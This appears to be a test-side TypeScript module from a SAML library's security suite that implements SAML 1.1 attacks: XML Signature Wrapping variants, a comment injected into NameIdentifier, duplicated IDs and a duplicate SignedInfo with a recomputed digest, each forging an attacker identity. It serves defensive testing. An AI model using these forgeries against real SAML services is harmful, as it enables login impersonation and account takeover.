/**
 * Test-side SAML 1.1 attacks (attacker code — never import this from src/), for the SAML 1.1 rows of
 * /work/shared/security/attack-catalogue.md (section E, and the B rows that name B-S11). The generic
 * XML-DSig tampering in ./attacks.ts (SignatureValue, Transforms, References, DOCTYPEs, second roots)
 * works on any ds:Signature and is reused as is; what lives here needs SAML 1.1 names: AssertionID /
 * ResponseID, NameIdentifier, saml:Advice, the 1.0 namespaces.
 *
 * Elements are selected by namespace URI + local name; created elements reuse the prefix of the
 * element they are modelled on, so prefixed and default-namespace documents both work.
 */
import { createHash } from "node:crypto";
import { DOMParser, XMLSerializer } from "@xmldom/xmldom";
import { SignedXml } from "xml-crypto";
import { EVIL_NAME_ID } from "./attacks.js";

const SAML1 = "urn:oasis:names:tc:SAML:1.0:assertion";
const SAMLP1 = "urn:oasis:names:tc:SAML:1.0:protocol";
const DS = "http://www.w3.org/2000/09/xmldsig#";
export const EVIL_ASSERTION_ID_11 = "_evil_assertion_11";
export const EVIL_RESPONSE_ID_11 = "_evil_response_11";

function fail(fn: string, what: string): never {
  throw new Error(`saml1-attacks.${fn}: ${what}`);
}

function parse(xml: string, fn: string): Document {
  const report = (msg: unknown) => fail(fn, `input is not well-formed XML: ${String(msg)}`);
  const doc = new DOMParser({ errorHandler: { warning: report, error: report, fatalError: report } }).parseFromString(xml, "text/xml");
  if (!doc.documentElement) fail(fn, "no root element");
  return doc as unknown as Document;
}

const serialize = (node: Node): string => new XMLSerializer().serializeToString(node as any);
const is = (el: Element, ns: string, local: string): boolean => el.namespaceURI === ns && el.localName === local;

function kids(el: Node): Element[] {
  const out: Element[] = [];
  for (let c = el.firstChild; c; c = c.nextSibling) if (c.nodeType === 1) out.push(c as Element);
  return out;
}

function descendants(start: Node, ns: string, local: string): Element[] {
  const out: Element[] = [];
  const walk = (n: Node): void => {
    if (n.nodeType === 1 && is(n as Element, ns, local)) out.push(n as Element);
    for (const c of kids(n)) walk(c);
  };
  walk(start);
  return out;
}

function createLike(like: Element, local: string): Element {
  return like.ownerDocument.createElementNS(like.namespaceURI, like.prefix ? `${like.prefix}:${local}` : local);
}

function setText(el: Element, value: string): void {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument.createTextNode(value));
}

function removeDirectSignatures(el: Element): Element | undefined {
  let removed: Element | undefined;
  for (const c of kids(el)) {
    if (is(c, DS, "Signature")) {
      el.removeChild(c);
      removed ??= c;
    }
  }
  return removed;
}

function setNameIdentifiersIn(scope: Node, value: string, fn: string): void {
  const ids = descendants(scope, SAML1, "NameIdentifier");
  if (ids.length === 0) fail(fn, "no saml:NameIdentifier (SAML 1.1) to forge");
  for (const id of ids) setText(id, value);
}

/** Puts `child` into the assertion's saml:Advice (created at its schema position, after Conditions). */
function intoAdvice(assertion: Element, child: Element): void {
  let advice = kids(assertion).find((c) => is(c, SAML1, "Advice"));
  if (!advice) {
    advice = createLike(assertion, "Advice");
    const conditions = kids(assertion).find((c) => is(c, SAML1, "Conditions"));
    assertion.insertBefore(advice, conditions ? conditions.nextSibling : assertion.firstChild);
  }
  advice.appendChild(child);
}

function signedRootAssertion(doc: Document, fn: string): { assertion: Element; signature: Element } {
  const assertion = doc.documentElement!;
  if (!is(assertion, SAML1, "Assertion")) fail(fn, "root must be a SAML 1.1 saml:Assertion");
  const signature = kids(assertion).find((c) => is(c, DS, "Signature"));
  if (!signature) fail(fn, "the root assertion has no ds:Signature child");
  return { assertion, signature };
}

// ---------------------------------------------------------------------------------------------

/** Tamper (no re-signing): every SAML 1.1 NameIdentifier in the document becomes `value`. */
export function setNameIdentifiers(xml: string, value: string = EVIL_NAME_ID): string {
  const doc = parse(xml, "setNameIdentifiers");
  setNameIdentifiersIn(doc, value, "setNameIdentifiers");
  return serialize(doc);
}

/** Tamper (no re-signing): the first AttributeValue of the Attribute with this AttributeName becomes `value`. */
export function setAttributeValue11(xml: string, attributeName: string, value: string): string {
  const fn = "setAttributeValue11";
  const doc = parse(xml, fn);
  const at = descendants(doc, SAML1, "Attribute").find((a) => a.getAttribute("AttributeName") === attributeName);
  if (!at) fail(fn, `no saml:Attribute with AttributeName="${attributeName}"`);
  const v = kids(at).find((c) => is(c, SAML1, "AttributeValue"));
  if (!v) fail(fn, "the attribute has no AttributeValue");
  setText(v, value);
  return serialize(doc);
}

/** B12 — `<!---->` inside the first NameIdentifier's text at index `at` (exc-c14n drops it: the signature stays valid). */
export function commentInNameIdentifier(xml: string, at: number): string {
  const fn = "commentInNameIdentifier";
  const doc = parse(xml, fn);
  const el = descendants(doc, SAML1, "NameIdentifier")[0] ?? fail(fn, "no NameIdentifier");
  const value = el.textContent ?? "";
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(doc.createTextNode(value.slice(0, at)));
  el.appendChild(doc.createComment(""));
  el.appendChild(doc.createTextNode(value.slice(at)));
  return serialize(doc);
}

export type AdviceWrapping =
  /** Forged root (new AssertionID, evil NameIdentifier, no Signature); the signed original in its Advice (catalogue E3). */
  | "unsigned-root"
  /** As above, but the original's Signature moved to the forged root (its Reference still names the original). */
  | "moved-signature"
  /** Forged root carrying the SAME AssertionID as the nested signed original. */
  | "same-id"
  /** Same AssertionID, and the original's Signature moved to the forged root. */
  | "same-id-moved-signature";

/**
 * E3 — XSW of a bare SAML 1.1 assertion: a forged root assertion with the evil identity, and the real
 * signed assertion nested in its saml:Advice (raw xml-crypto verified this in the lab).
 */
export function xswAdvice11(xml: string, variant: AdviceWrapping = "unsigned-root", evil: string = EVIL_NAME_ID): string {
  const fn = "xswAdvice11";
  const doc = parse(xml, fn);
  const { assertion: original } = signedRootAssertion(doc, fn);
  const forged = original.cloneNode(true) as Element;
  const signature = removeDirectSignatures(forged)!;
  setNameIdentifiersIn(forged, evil, fn);
  const originalId = original.getAttribute("AssertionID") ?? fail(fn, "no AssertionID");
  forged.setAttribute("AssertionID", variant.startsWith("same-id") ? originalId : EVIL_ASSERTION_ID_11);
  doc.replaceChild(forged, original);
  intoAdvice(forged, original);
  if (variant.endsWith("moved-signature")) {
    removeDirectSignatures(original);
    forged.appendChild(signature);
  }
  return serialize(doc);
}

/**
 * XSW inside a SAML 1.1 Response (catalogue A3/A4 for 1.1): "sibling" puts an unsigned evil copy of
 * the signed assertion before it; "advice" replaces the signed assertion by an unsigned evil copy
 * that holds the original in its Advice.
 */
export function xswResponse11(xml: string, kind: "sibling" | "advice", evil: string = EVIL_NAME_ID): string {
  const fn = "xswResponse11";
  const doc = parse(xml, fn);
  const response = doc.documentElement!;
  if (!is(response, SAMLP1, "Response")) fail(fn, "root must be a SAML 1.1 samlp:Response");
  const original = kids(response).find((c) => is(c, SAML1, "Assertion")) ?? fail(fn, "no assertion");
  const forged = original.cloneNode(true) as Element;
  removeDirectSignatures(forged);
  setNameIdentifiersIn(forged, evil, fn);
  forged.setAttribute("AssertionID", EVIL_ASSERTION_ID_11);
  if (kind === "sibling") {
    response.insertBefore(forged, original);
  } else {
    response.replaceChild(forged, original);
    intoAdvice(forged, original);
  }
  return serialize(doc);
}

/**
 * A1 for SAML 1.1 — the signed Response becomes the evil one (ResponseID changed, evil
 * NameIdentifier, keeps its Signature); a clean copy of the original (Signature removed, original
 * ResponseID) is hidden in a ds:Object inside that Signature.
 */
export function xswSignedResponse11(xml: string, evil: string = EVIL_NAME_ID): string {
  const fn = "xswSignedResponse11";
  const doc = parse(xml, fn);
  const response = doc.documentElement!;
  if (!is(response, SAMLP1, "Response")) fail(fn, "root must be a SAML 1.1 samlp:Response");
  const signature = kids(response).find((c) => is(c, DS, "Signature")) ?? fail(fn, "the Response is not signed");
  const clean = response.cloneNode(true) as Element;
  removeDirectSignatures(clean);
  const object = createLike(signature, "Object");
  object.appendChild(clean);
  signature.appendChild(object);
  response.setAttribute("ResponseID", EVIL_RESPONSE_ID_11);
  for (const a of kids(response).filter((c) => is(c, SAML1, "Assertion"))) setNameIdentifiersIn(a, evil, fn);
  return serialize(doc);
}

/**
 * E2 / B19 — ID confusion: the signed element's ID value is also put, under `attr` ("ID", "Id",
 * "id", "AssertionID" or "ResponseID"), on the first element called `onLocalName` (SAML 1.1 ns, or
 * ds for Signature parts).
 */
export function duplicateId11(xml: string, attr: string, onLocalName = "NameIdentifier"): string {
  const fn = "duplicateId11";
  const doc = parse(xml, fn);
  const root = doc.documentElement!;
  const signed = [root, ...descendants(root, SAML1, "Assertion")].find((e) => kids(e).some((c) => is(c, DS, "Signature"))) ?? fail(fn, "nothing signed");
  const id = signed.getAttribute("AssertionID") || signed.getAttribute("ResponseID") || fail(fn, "no AssertionID/ResponseID");
  const target = descendants(root, SAML1, onLocalName)[0] ?? descendants(root, SAMLP1, onLocalName)[0] ?? fail(fn, `no ${onLocalName}`);
  target.setAttribute(attr, id);
  return serialize(doc);
}

/**
 * B7 ("SAMLStorm") for a bare SAML 1.1 assertion: the assertion is forged in place (evil
 * NameIdentifier, new AssertionID) with a clean copy of the original in an unknown `<a>` element, and
 * a second ds:SignedInfo whose Reference points at the forged assertion, freshly digested, is added
 * after the original SignedInfo.
 */
export function duplicateSignedInfo11(xml: string, evil: string = EVIL_NAME_ID): string {
  const fn = "duplicateSignedInfo11";
  const doc = parse(xml, fn);
  const { assertion, signature } = signedRootAssertion(doc, fn);
  const genuine = assertion.cloneNode(true) as Element;
  removeDirectSignatures(genuine);
  setNameIdentifiersIn(assertion, evil, fn);
  assertion.setAttribute("AssertionID", EVIL_ASSERTION_ID_11);
  const holder = doc.createElementNS(null, "a");
  if (assertion.lookupNamespaceURI(null)) holder.setAttributeNS("http://www.w3.org/2000/xmlns/", "xmlns", "");
  holder.appendChild(genuine);
  assertion.insertBefore(holder, signature);
  const signedInfo = kids(signature).find((c) => is(c, DS, "SignedInfo")) ?? fail(fn, "no SignedInfo");
  const forgedInfo = signedInfo.cloneNode(true) as Element;
  const ref = kids(forgedInfo).find((c) => is(c, DS, "Reference")) ?? fail(fn, "no Reference");
  ref.setAttribute("URI", `#${EVIL_ASSERTION_ID_11}`);
  signature.insertBefore(forgedInfo, signedInfo.nextSibling);
  // Digest of the forged assertion as a verifier would compute it (enveloped + exc-c14n, sha256).
  const withoutSig = assertion.cloneNode(true) as Element;
  removeDirectSignatures(withoutSig);
  const canon = new SignedXml().getCanonXml(["http://www.w3.org/2001/10/xml-exc-c14n#"], withoutSig as any, {});
  const dv = kids(ref).find((c) => is(c, DS, "DigestValue")) ?? fail(fn, "no DigestValue");
  setText(dv, createHash("sha256").update(canon, "utf8").digest("base64"));
  return serialize(doc);
}

/** E4 — a SAML 2.0 element (saml2:Subject) inserted as a child of the SAML 1.1 assertion, before its statements. */
export function saml2ElementInside(xml: string): string {
  const fn = "saml2ElementInside";
  const doc = parse(xml, fn);
  const assertion = doc.documentElement!;
  const statement = kids(assertion).find((c) => is(c, SAML1, "AuthenticationStatement")) ?? fail(fn, "no AuthenticationStatement");
  const subject = doc.createElementNS("urn:oasis:names:tc:SAML:2.0:assertion", "saml2:Subject");
  const nameId = doc.createElementNS("urn:oasis:names:tc:SAML:2.0:assertion", "saml2:NameID");
  nameId.appendChild(doc.createTextNode(EVIL_NAME_ID));
  subject.appendChild(nameId);
  assertion.insertBefore(subject, statement);
  return serialize(doc);
}
